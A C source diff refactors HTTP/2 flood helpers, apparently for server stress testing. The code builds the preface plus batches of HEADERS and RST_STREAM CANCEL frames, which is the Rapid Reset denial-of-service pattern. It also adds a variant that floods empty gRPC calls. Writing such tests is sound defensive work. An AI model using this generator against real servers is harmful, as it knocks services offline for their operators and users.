@@ -36,33 +36,52 @@ int h2_flood_write_fd(void *arg, const void *buf, size_t len) {
   return 0;
 }
 
-int h2_flood_rapid_reset(h2_flood_write_fn write, void *arg, const char *path, int pairs) {
-  unsigned char headers[256];
+/* The HPACK block opening a call of path (at most 255 bytes of path). */
+static size_t call_headers(unsigned char *out, const char *path) {
   size_t h = 0;
-  headers[h++] = 0x83, headers[h++] = 0x86; /* :method POST, :scheme http (static table) */
-  h += literal(headers + h, ":path", path);
-  h += literal(headers + h, ":authority", "x");
-  h += literal(headers + h, "content-type", "application/grpc");
-  h += literal(headers + h, "te", "trailers");
+  out[h++] = 0x83, out[h++] = 0x86; /* :method POST, :scheme http (static table) */
+  h += literal(out + h, ":path", path);
+  h += literal(out + h, ":authority", "x");
+  h += literal(out + h, "content-type", "application/grpc");
+  h += literal(out + h, "te", "trailers");
+  return h;
+}
+
+/* `count` times a HEADERS frame opening a call of path (stream 2i + 1) and the frame of the
+ * given type, flags and payload on the same stream, after the preface and an empty SETTINGS;
+ * returns the pairs written before a write failed. */
+static int flood(h2_flood_write_fn write, void *arg, const char *path, int count, int type, int flags,
+                 const unsigned char *payload, size_t len) {
+  unsigned char headers[512];
+  size_t h = call_headers(headers, path);
   unsigned char start[64];
   memcpy(start, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
   size_t n = 24 + frame(start + 24, 4, 0, 0, NULL, 0);
   if (write(arg, start, n) != 0) return 0;
-  unsigned char *buf = malloc(PAIRS_PER_WRITE * (2 * 9 + h + 4));
+  unsigned char *buf = malloc(PAIRS_PER_WRITE * (2 * 9 + h + len));
   if (!buf) return 0;
-  static const unsigned char cancel[4] = {0, 0, 0, 8}; /* CANCEL */
   int sent = 0;
-  while (sent < pairs) {
-    int batch = pairs - sent < PAIRS_PER_WRITE ? pairs - sent : PAIRS_PER_WRITE;
+  while (sent < count) {
+    int batch = count - sent < PAIRS_PER_WRITE ? count - sent : PAIRS_PER_WRITE;
     n = 0;
     for (int i = 0; i < batch; i++) {
       uint32_t id = 2 * (uint32_t)(sent + i) + 1;
       n += frame(buf + n, 1, 0x4, id, headers, h); /* END_HEADERS */
-      n += frame(buf + n, 3, 0, id, cancel, sizeof(cancel));
+      n += frame(buf + n, type, flags, id, payload, len);
     }
     if (write(arg, buf, n) != 0) break;
     sent += batch;
   }
   free(buf);
   return sent;
+}
+
+int h2_flood_rapid_reset(h2_flood_write_fn write, void *arg, const char *path, int pairs) {
+  static const unsigned char cancel[4] = {0, 0, 0, 8}; /* RST_STREAM CANCEL */
+  return flood(write, arg, path, pairs, 3, 0, cancel, sizeof(cancel));
+}
+
+int h2_flood_calls(h2_flood_write_fn write, void *arg, const char *path, int calls) {
+  static const unsigned char empty[5] = {0}; /* an uncompressed gRPC message of 0 bytes */
+  return flood(write, arg, path, calls, 0, 0x1, empty, sizeof(empty)); /* DATA, END_STREAM */
 }
